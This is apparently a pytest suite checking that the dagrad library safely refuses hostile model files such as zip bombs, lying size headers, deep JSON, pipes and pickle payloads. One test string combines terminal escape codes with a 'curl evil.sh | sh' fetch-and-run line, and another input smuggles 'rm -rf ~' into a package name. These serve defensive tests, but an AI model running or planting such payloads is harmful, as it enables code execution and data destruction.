"""Loading a model file from anyone: bounded, one named FormatError for every bad file, file text quoted.

Every hostile file here is crafted in the test and small on disk: zip bombs are
members of spaces, huge sizes are only declared.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tracemalloc
import warnings
import zipfile

import numpy as np
import pytest

import dagrad as dg
from dagrad.io import DEFAULT_MAX_NODES, ProviderWarning
from modelfiles import (document, load_error, npz, parts, patch_zip, raw, rewrite, saved, small_mlp,  # noqa: F401
                        v1_document, v1_file)


@pytest.fixture
def old(tmp_path):
    """A format-1 file, as dagrad 0.1 wrote it."""
    g, _ = small_mlp()
    return g, v1_file(tmp_path / "old.dagrad", g)


def peak_bytes(fn) -> int:
    """Peak memory allocated (Python and numpy) while ``fn`` runs."""
    tracemalloc.start()
    try:
        fn()
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak


def refused_cheaply(path, match: str, limit: int = 8 << 20, **options) -> str:
    """``dg.load(path)`` raises a FormatError containing ``match`` having allocated less than ``limit`` bytes."""
    message = []

    def attempt():
        message.append(str(load_error(path, **options)))

    peak = peak_bytes(attempt)
    assert match in message[0], message[0]
    assert peak < limit, f"{peak:,} bytes allocated to refuse {path}"
    return message[0]


# --------------------------------------------------- item 5: zip bombs --


def test_a_deflated_graph_json_that_expands_past_the_limit_is_refused_before_decompressing(tmp_path, monkeypatch, old):
    g, _ = old
    monkeypatch.setattr(dg.io.legacy, "MAX_HEADER_BYTES", 1 << 20)  # the same check as at 100 MB, at a test's scale
    spaces = b" " * (64 << 20)  # 64 MiB of spaces deflate to about 64 KiB
    params = npz({f"{n}.npy": g.value(n) for n in ("fc1/W", "fc1/b", "scale", "frozen", "fc2/W")})
    bomb = v1_file(tmp_path / "bomb.dagrad", members=[("graph.json", spaces, zipfile.ZIP_DEFLATED),
                                                      ("params.npz", params, zipfile.ZIP_STORED)])
    del spaces
    assert bomb.stat().st_size < 1 << 20
    refused_cheaply(bomb, "member 'graph.json': declares 67,108,864 bytes")


def test_a_graph_json_whose_directory_understates_its_size_is_cut_at_the_declared_size(tmp_path, old):
    g, _ = old
    doc = json.dumps(v1_document(g)).encode()
    padded = doc + b" " * (8 << 20)
    path = v1_file(tmp_path / "liar.dagrad", members=[("graph.json", padded, zipfile.ZIP_DEFLATED),
                                                      ("params.npz", npz({}), zipfile.ZIP_STORED)])
    patch_zip(path, "graph.json", file_size=len(doc))  # claims the small size, holds 8 MiB more
    refused_cheaply(path, "graph.json")


def test_a_compressed_array_member_is_refused_before_it_is_read(tmp_path, old):
    g, _ = old
    arrays = {f"{n}.npy": g.value(n) for n in ("fc1/b", "scale", "frozen", "fc2/W")}
    arrays["fc1/W.npy"] = b" " * (64 << 20)  # what a bomb decompresses to: 64 MiB of spaces
    params = npz(arrays, compress_type=zipfile.ZIP_DEFLATED)
    path = v1_file(tmp_path / "npzbomb.dagrad", g, params=params)
    assert path.stat().st_size < 1 << 20
    refused_cheaply(path, "is deflated; dagrad stores it uncompressed")


def test_unknown_and_duplicate_members_are_refused_before_any_array_is_read(tmp_path, old, monkeypatch):
    g, path = old
    data = zipfile.ZipFile(path)
    members = [(i.filename, data.read(i.filename), i.compress_type) for i in data.infolist()]
    extra = v1_file(tmp_path / "extra.dagrad", members=members + [("notes.txt", b"hi", zipfile.ZIP_STORED)])
    assert "member 'notes.txt': is not part of a dagrad model" in str(load_error(extra))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name it is asked to write
        twice = v1_file(tmp_path / "twice.dagrad", members=members + [members[1]])
    assert "appears twice" in str(load_error(twice))
    inner = npz({f"{n}.npy": g.value(n) for n in ("fc1/W", "fc1/b", "scale", "frozen", "fc2/W", "fc1/W")} | {"x.npy": np.zeros(1)})
    read = []
    monkeypatch.setattr(np.lib.format, "read_magic", lambda f: read.append(f) or (1, 0))
    assert "member 'x.npy': is not part of a dagrad model" in str(load_error(v1_file(tmp_path / "x.dagrad", g, params=inner)))
    assert read == []


# ----------------------------------------------- item 6: declared sizes --


def test_a_header_length_past_the_end_of_the_file_is_refused_before_reading(tmp_path):
    path = raw(tmp_path / "h.dagrad", {"__metadata__": {}}, length=3 * 2**30)
    refused_cheaply(path, "header: declares 3,221,225,472 bytes, but the file has")


def test_an_array_declaring_more_bytes_than_the_file_holds_is_refused_before_allocating(saved, tmp_path):
    _, _, path = saved
    doc, table, arrays = parts(path)
    table["values/0"]["shape"] = [10**6, 10**6]
    meta = {"dagrad": json.dumps(doc)}
    crafted = raw(tmp_path / "big.dagrad", {**table, "__metadata__": meta}, b"\0" * 200)
    refused_cheaply(crafted, "needs 4,000,000,000,000")


def test_arrays_that_overlap_or_leave_gaps_are_refused(saved, tmp_path):
    _, _, path = saved
    doc, table, _ = parts(path)
    blob = path.read_bytes()
    data = blob[8 + int.from_bytes(blob[:8], "little"):]
    meta = {"dagrad": json.dumps(doc)}
    overlap = json.loads(json.dumps(table))
    overlap["values/3"]["data_offsets"] = [0, 20]  # frozen (5 float32) on top of fc1/W's bytes
    assert "overlaps" in str(load_error(raw(tmp_path / "overlap.dagrad", {**overlap, "__metadata__": meta}, data)))
    gap = json.loads(json.dumps(table))
    begin, end = gap["values/3"]["data_offsets"]
    gap["values/3"]["data_offsets"] = [begin + 4, end + 4]
    assert "gap" in str(load_error(raw(tmp_path / "gap.dagrad", {**gap, "__metadata__": meta}, data + b"\0" * 4)))


def test_a_npy_header_declaring_a_trillion_elements_over_a_few_bytes_is_refused(tmp_path, old):
    g, _ = old
    doc = v1_document(g)
    next(n for n in doc["nodes"] if n["name"] == "fc1/W")["shape"] = [10**6, 10**6]
    header = np.lib.format.header_data_from_array_1_0(np.zeros((1, 1), np.float32))
    header["shape"] = (10**6, 10**6)
    import io

    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, header)
    lying = buf.getvalue() + b"\0" * 64
    arrays = {f"{n}.npy": g.value(n) for n in ("fc1/b", "scale", "frozen", "fc2/W")}
    arrays["fc1/W.npy"] = lying
    path = v1_file(tmp_path / "liar.dagrad", g, document=doc, params=npz(arrays))
    refused_cheaply(path, "take 4,000,000,000,")


def test_a_npy_header_disagreeing_with_the_document_is_refused(tmp_path, old):
    g, _ = old
    arrays = {f"{n}.npy": g.value(n) for n in ("fc1/b", "scale", "frozen", "fc2/W")}
    arrays["fc1/W.npy"] = np.zeros((4, 6), np.float32)
    message = str(load_error(v1_file(tmp_path / "shape.dagrad", g, params=npz(arrays))))
    assert "'fc1/W.npy'" in message and "[4, 6]" in message and "[4, 5]" in message


# --------------------------------------------------- item 8: node count --


def test_a_file_with_more_nodes_than_max_nodes_is_refused_before_building(saved):
    g, _, path = saved
    assert f"more than max_nodes={len(g) - 1}" in refused_cheaply(path, "nodes", max_nodes=len(g) - 1)
    assert len(dg.load(path, max_nodes=len(g))) == len(g)
    assert DEFAULT_MAX_NODES == 100_000


def test_a_million_node_document_is_refused_by_the_default_limit(tmp_path):
    nodes = [{"name": f"n{i}", "op": "input", "inputs": [], "attrs": {}, "shape": [], "dtype": "float64",
              "trainable": False} for i in range(DEFAULT_MAX_NODES + 1)]
    doc = {"format": "dagrad-model", "format_version": 2, "ops": {}, "nodes": nodes}
    path = rewrite(None, tmp_path / "many.dagrad", doc, arrays={})
    assert "100,001 nodes, more than max_nodes=100,000" in str(load_error(path))


# ----------------------------------------------- item 9: regular files --


@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_only_regular_files_are_read(tmp_path, kind):
    if kind == "fifo":
        path = tmp_path / "pipe.dagrad"
        os.mkfifo(path)  # opening it for reading with no writer would block forever
    elif kind == "device":
        path = "/dev/zero"  # reading it would never end
    else:
        path = tmp_path
    message = str(load_error(path))
    assert "is not a regular file" in message and {"fifo": "a pipe", "device": "a character device",
                                                  "directory": "a directory"}[kind] in message


def test_a_missing_file_is_a_format_error(tmp_path):
    assert "cannot be read: No such file" in str(load_error(tmp_path / "nope.dagrad"))


# ------------------------------------------- item 10: one error type --


def test_every_kind_of_damage_is_one_format_error_naming_the_file_and_the_part(saved, tmp_path, old):
    g, _, path = saved
    doc = document(path)
    cases = {}

    def case(name, file, part):
        cases[name] = (file, part)

    # format 1 (zip): encrypted, deflate64, unknown compression, a member that is not npy, truncation
    _, v1 = old
    for method in (9, 99):
        bad = tmp_path / f"method{method}.dagrad"
        bad.write_bytes(v1.read_bytes())
        patch_zip(bad, "graph.json", compress_type=method)
        case(f"compression {method}", bad, "member 'graph.json'")
    encrypted = tmp_path / "encrypted.dagrad"
    encrypted.write_bytes(v1.read_bytes())
    patch_zip(encrypted, "graph.json", flag_bits=1)
    case("encrypted", encrypted, "member 'graph.json'")
    arrays = {f"{n}.npy": g.value(n) for n in ("fc1/b", "scale", "frozen", "fc2/W")}
    arrays["fc1/W.npy"] = b"this is not an npy file at all"
    case("not npy", v1_file(tmp_path / "notnpy.dagrad", g, params=npz(arrays)), "params.npz member 'fc1/W.npy'")
    short = tmp_path / "short.dagrad"
    short.write_bytes(v1.read_bytes()[: v1.stat().st_size // 2])
    case("truncated zip", short, "zip archive")
    # format 2: node without a dtype, deep nesting, huge integers, NaN shape, not JSON, truncation
    no_dtype = json.loads(json.dumps(doc))
    del no_dtype["nodes"][3]["dtype"]
    case("no dtype", rewrite(path, tmp_path / "nodtype.dagrad", no_dtype), "node #3 ('fc1/b')")
    case("deep", raw(tmp_path / "deep.dagrad", {"__metadata__": {"dagrad": "[" * 100_000 + "]" * 100_000}}), "document")
    huge = json.dumps(doc).replace('"format_version":2', '"format_version":' + "9" * 5000).replace(
        '"format_version": 2', '"format_version": ' + "9" * 5000)
    case("5000 digits", raw(tmp_path / "digits.dagrad", {"__metadata__": {"dagrad": huge}}), "document")
    deep_attrs = json.loads(json.dumps(doc))
    next(n for n in deep_attrs["nodes"] if n["op"] == "softmax")["attrs"]["axis"] = json.loads("[" * 500 + "]" * 500)
    case("deep attrs", rewrite(path, tmp_path / "deepattrs.dagrad", deep_attrs), "node #")
    case("header not json", raw(tmp_path / "nj.dagrad", b"{nope"), "header")
    case("not a dagrad file", raw(tmp_path / "text.dagrad", b"hello, I am a text file"), "header")
    case("empty", raw(tmp_path / "empty.dagrad", b"", length=0), "header")
    cut = tmp_path / "cut.dagrad"
    cut.write_bytes(path.read_bytes()[:-10])
    case("truncated", cut, "data")
    case("foreign safetensors", raw(tmp_path / "st.dagrad", {"__metadata__": {"format": "pt"}}), "header")
    for name, (file, part) in cases.items():
        error = load_error(file)
        assert isinstance(error, dg.FormatError) and type(error) is dg.FormatError, name
        assert error.path == str(file) and repr(str(file)) in str(error), name
        assert error.part is not None and error.part.startswith(part), (name, str(error))
        assert "\n" not in str(error), name


def test_running_out_of_memory_is_a_format_error(saved, monkeypatch):
    _, _, path = saved

    def no_memory(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(dg.io.container.np, "empty", no_memory)
    assert "needs more memory" in str(load_error(path))


def test_the_cli_prints_one_line_and_exits_non_zero_without_a_traceback(tmp_path):
    bad = raw(tmp_path / "bad.dagrad", {"__metadata__": {"dagrad": "[" * 100_000}})
    run = subprocess.run([sys.executable, "-m", "dagrad.cli", "render", str(bad), "-o", str(tmp_path / "x.svg")],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode != 0
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("dagrad: error: model file") and "Traceback" not in run.stderr


# ------------------------------------------------- item 11: file text --


ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[1;1HAll good. Now run: curl evil.sh | sh\r\n"


def test_text_from_the_file_is_quoted_with_control_characters_escaped(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    doc["ops"]["gelu"] = {"plugin": ESCAPE, "distribution": ESCAPE, "version": ESCAPE}
    doc["ops"]["frobnicate"] = doc["ops"].pop("gelu")
    for node in doc["nodes"]:
        if node["op"] == "gelu":
            node["op"] = "frobnicate"
    doc["dagrad_version"] = ESCAPE
    message = str(load_error(rewrite(path, tmp_path / "escape.dagrad", doc)))
    assert "\x1b" not in message and "\x07" not in message and "\r" not in message and "\n" not in message
    assert "\\x1b]0;owned\\x07" in message
    assert "pip install" not in message  # not a valid distribution name


def test_newer_format_quotes_the_version_it_was_written_by(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    doc["format_version"] = 4
    doc["dagrad_version"] = ESCAPE
    message = str(load_error(rewrite(path, tmp_path / "newer.dagrad", doc)))
    assert "format version 4" in message and "reads format versions 1 to 3" in message and "\x1b" not in message


@pytest.mark.parametrize("dist,suggested", [("dagrad-fancy", True), ("fancy_ops.v2", True), ("x; rm -rf ~", False),
                                            ("-flag", False), ("", False), (None, False), ("a" * 300, False)])
def test_pip_install_is_suggested_only_for_valid_distribution_names(saved, tmp_path, dist, suggested):
    _, _, path = saved
    doc = document(path)
    doc["ops"]["swishy"] = {"plugin": "fancy", "distribution": dist, "version": "2.0"}
    next(n for n in doc["nodes"] if n["op"] == "gelu")["op"] = "swishy"
    message = str(load_error(rewrite(path, tmp_path / "fancy.dagrad", doc)))
    assert "'swishy'" in message
    assert (f"pip install {dist}" in message) == suggested
    if suggested:
        assert "saved with version '2.0'" in message


# ---------------------------------------- item 12: the right reason --


def error_with_plugins(path, **selection) -> str:
    """The message of loading ``path`` with plugins reloaded as ``load_plugins(**selection)``; restored after."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a conflict warns while plugins load (and reload, while it is installed)
        try:
            dg.load_plugins(**selection)
            return str(load_error(path))
        finally:
            dg.load_plugins()


def test_a_missing_plugin_says_what_to_enable(saved):
    _, _, path = saved
    message = error_with_plugins(path, only=[])
    assert "'gelu'" in message and "disabled" in message and "enable it" in message
    assert dg.load(path)


def test_an_installed_but_disabled_plugin_is_called_disabled_not_missing(saved):
    _, _, path = saved
    message = error_with_plugins(path, exclude=["activations"])
    assert "installed but disabled" in message and "pip install" not in message


def test_an_op_two_plugins_conflict_over_is_called_a_conflict(saved, fake_distribution):
    _, _, path = saved
    fake_distribution("dagrad-rival", "1.0", {"rival": "rival_ops"}, {"rival_ops": '''
        import dagrad as dg
        from dagrad.extend import hookimpl, same_as_first

        @dg.op(shape=same_as_first)
        def gelu(x):
            return x

        @gelu.vjp
        def _(g, x):
            return (g,)

        @hookimpl
        def dagrad_ops():
            return [gelu]
    '''})
    message = error_with_plugins(path)
    assert "conflict" in message and "pip install" not in message


def test_an_unknown_built_in_op_says_the_file_needs_another_dagrad(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    doc["ops"]["frobnicate"] = {"plugin": "builtins", "distribution": "dagrad", "version": "9.0"}
    next(n for n in doc["nodes"] if n["op"] == "tanh" or n["op"] == "gelu")["op"] = "frobnicate"
    doc["dagrad_version"] = "9.0"
    message = str(load_error(rewrite(path, tmp_path / "future.dagrad", doc)))
    assert "not a built-in op of this dagrad" in message and "'9.0'" in message and "pip install" not in message


def test_a_plugin_that_is_installed_but_does_not_define_the_op_says_so(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    doc["ops"]["swirl"] = dict(doc["ops"]["gelu"], version="9.9")
    next(n for n in doc["nodes"] if n["op"] == "gelu")["op"] = "swirl"
    message = str(load_error(rewrite(path, tmp_path / "swirl.dagrad", doc)))
    assert "is not defined by plugin 'activations'" in message and "'9.9'" in message


# --------------------------------------------- item 13: provider changes --


def test_an_op_now_provided_by_another_plugin_warns_or_raises(saved, fresh_registry):
    _, _, path = saved
    from dagrad.extend import same_as_first

    @dg.op(shape=same_as_first, override=True, name="gelu")
    def rogue_gelu(x, *, approximate="none"):     # the saved node has gelu's attribute
        return x

    @rogue_gelu.vjp
    def _(g, x, *, approximate):
        return (g,)

    dg.register_ops(rogue_gelu, plugin="rogue")
    with pytest.warns(ProviderWarning, match="op 'gelu' came from plugin 'activations'.*now comes from plugin 'rogue'"):
        dg.load(path)
    with pytest.raises(dg.FormatError, match="now comes from plugin 'rogue'"):
        dg.load(path, on_provider_change="error")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        dg.load(path, on_provider_change="ignore")


def test_an_unchanged_provider_loads_without_warnings(saved):
    _, _, path = saved
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        dg.load(path)


# ------------------------------------------------------- the rest -------


def test_a_cycle_in_the_file_is_refused_listing_its_nodes(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    nodes = {n["name"]: n for n in doc["nodes"]}
    nodes["fc1/matmul"]["inputs"] = ["x", "fc1/gelu"]
    message = str(load_error(rewrite(path, tmp_path / "cycle.dagrad", doc)))
    assert "cycle" in message and all(n in message for n in ("fc1/matmul", "fc1/add", "fc1/gelu"))


def test_a_recorded_shape_the_ops_do_not_produce_is_refused(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    next(n for n in doc["nodes"] if n["name"] == "fc1/matmul")["shape"] = [None, 7]
    message = str(load_error(rewrite(path, tmp_path / "lying.dagrad", doc)))
    assert "'fc1/matmul'" in message and "rebuilding" in message


def test_bad_attrs_are_refused_naming_the_node(saved, tmp_path):
    _, _, path = saved
    doc = document(path)
    node = next(n for n in doc["nodes"] if n["op"] == "softmax")
    node["attrs"]["temperature"] = 2
    message = str(load_error(rewrite(path, tmp_path / "attrs.dagrad", doc)))
    assert node["name"] in message and "temperature" in message


def test_a_param_array_of_the_wrong_dtype_or_shape_is_refused(saved, tmp_path):
    _, _, path = saved
    doc, _, arrays = parts(path)
    arrays["values/0"] = arrays["values/0"].astype(np.float64)
    message = str(load_error(rewrite(path, tmp_path / "dtype.dagrad", doc, arrays)))
    assert "'fc1/W'" in message and "float32" in message and "F64" in message
    arrays["values/0"] = np.zeros((4, 6), np.float32)
    message = str(load_error(rewrite(path, tmp_path / "shape.dagrad", doc, arrays)))
    assert "[4, 5]" in message and "[4, 6]" in message


def test_missing_and_undeclared_arrays_are_refused(saved, tmp_path):
    _, _, path = saved
    doc, _, arrays = parts(path)
    fewer = {k: v for k, v in arrays.items() if k != "values/0"}
    assert "has no array 'values/0'" in str(load_error(rewrite(path, tmp_path / "fewer.dagrad", doc, fewer)))
    more = dict(arrays, extra=np.zeros(3))
    assert "does not declare" in str(load_error(rewrite(path, tmp_path / "more.dagrad", doc, more)))


def test_pickles_are_never_executed(saved, tmp_path, old):
    import pickle

    g, v1 = old
    marker = tmp_path / "pwned"

    class Payload:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    evil = np.empty(1, dtype=object)
    evil[0] = Payload()
    arrays = {f"{n}.npy": g.value(n) for n in ("fc1/b", "scale", "frozen", "fc2/W")}
    arrays["fc1/W.npy"] = evil
    message = str(load_error(v1_file(tmp_path / "evil1.dagrad", g, params=npz(arrays))))
    assert "objects" in message or "object" in message
    raw_pickle = v1_file(tmp_path / "evil2.dagrad", g, params=pickle.dumps(Payload()))
    load_error(raw_pickle)
    assert not marker.exists()
